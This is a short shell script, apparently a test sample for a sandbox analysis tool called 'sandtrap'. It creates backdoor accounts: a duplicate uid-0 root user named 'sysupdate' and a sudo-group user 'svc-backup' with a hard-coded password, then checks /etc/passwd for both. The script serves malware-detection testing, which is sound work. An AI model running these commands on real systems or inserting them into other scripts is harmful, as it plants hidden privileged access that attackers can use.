#!/bin/sh
# A new account: useradd creates a uid-0 backdoor user with a known password and sudo group membership.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupdate 2>&1
useradd -m -s /bin/bash -G sudo svc-backup 2>&1
echo 'svc-backup:Winter2026!' | chpasswd 2>&1
grep -E 'sysupdate|svc-backup' /etc/passwd
